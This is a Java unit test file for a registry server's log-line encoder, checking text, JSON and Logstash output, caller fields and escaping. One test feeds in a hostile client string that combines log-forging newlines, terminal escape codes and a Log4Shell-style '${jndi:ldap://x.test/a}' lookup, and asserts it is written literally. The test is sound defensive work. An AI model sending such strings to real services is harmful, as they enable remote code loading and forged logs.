package io.stowage.registry.server.ops;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.OutputStreamAppender;
import java.io.ByteArrayOutputStream;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

final class LogLinesTest {
  private static final String TIME = "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d+)?Z";

  @Test
  void line_asText_quotesWhatIsMoreThanAWord() {
    assertThat(line(Logging.Format.TEXT, false, log -> log.warn("two\nlines, \"quoted\"")))
        .matches(
            "time=\""
                + TIME
                + "\" level=warning msg=\"two\\\\nlines, \\\\\"quoted\\\\\"\" service=registry\n");
  }

  @Test
  void line_asJson_hasTheSameFields() {
    assertThat(line(Logging.Format.JSON, false, log -> log.info("hello")))
        .matches(
            "\\{\"time\":\""
                + TIME
                + "\",\"level\":\"info\",\"msg\":\"hello\",\"service\":\"registry\",\"instance.id\":\"abc\"}\n");
  }

  @Test
  void line_forLogstash_hasItsNames() {
    assertThat(line(Logging.Format.LOGSTASH, false, log -> log.info("hello")))
        .contains("\"@timestamp\":", "\"message\":\"hello\"", "\"@version\":\"1\"");
  }

  @Test
  void line_withItsCaller_namesThePlaceInTheSource() {
    assertThat(line(Logging.Format.TEXT, true, log -> log.info("hello")))
        .contains(" func=\"" + getClass().getName())
        .containsPattern(" file=\"LogLinesTest.java:\\d+\" service=registry\n$");
  }

  @Test
  void line_withFieldsOfItsOwn_alsoTellsTheProcess() {
    Consumer<Logger> event =
        log -> log.atInfo().addKeyValue("http.response.status", 404).log("hello");

    assertThat(line(Logging.Format.TEXT, false, event))
        .endsWith(" msg=hello service=registry http.response.status=404 instance.id=abc\n");
    assertThat(line(Logging.Format.JSON, false, event))
        .endsWith(
            "\"service\":\"registry\",\"http.response.status\":404,\"instance.id\":\"abc\"}\n");
  }

  @Test
  void line_asJson_isAscii() {
    assertThat(line(Logging.Format.JSON, false, log -> log.info("\u009b31m \u2028 \u00e9")))
        .contains("\"\\u009B31m \\u2028 \\u00E9\"");
  }

  @ParameterizedTest
  @EnumSource(Logging.Format.class)
  @DisplayName("SL-3, SL-4: a line is one line in plain characters, and looks nothing up")
  void line_ofWhatAClientSent_isOneLineAndLiteral(Logging.Format format) {
    String attack =
        "a\nlevel=error msg=b\r\n\u001b[2J\u009b\u0000\u0085\u2028\"}{ ${jndi:ldap://x.test/a}";

    String line = line(format, false, log -> log.atInfo().addKeyValue("k", attack).log(attack));

    assertThat(line).endsWith("\n").contains("${jndi:ldap://x.test/a}");
    assertThat(line.substring(0, line.length() - 1)).matches("[ -~]+");
  }

  private static String line(Logging.Format format, boolean reportCaller, Consumer<Logger> event) {
    LoggerContext context = new LoggerContext();
    context.setMDCAdapter(new LogbackMDCAdapter());
    LogLines lines =
        new LogLines(
            format, Map.of("service", "registry"), reportCaller, Map.of("instance.id", "abc"));
    lines.setContext(context);
    lines.start();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    OutputStreamAppender<ILoggingEvent> appender = new OutputStreamAppender<>();
    appender.setContext(context);
    appender.setEncoder(lines);
    appender.setOutputStream(out);
    appender.start();
    Logger logger = context.getLogger("test");
    logger.addAppender(appender);
    event.accept(logger);
    return out.toString(UTF_8);
  }
}
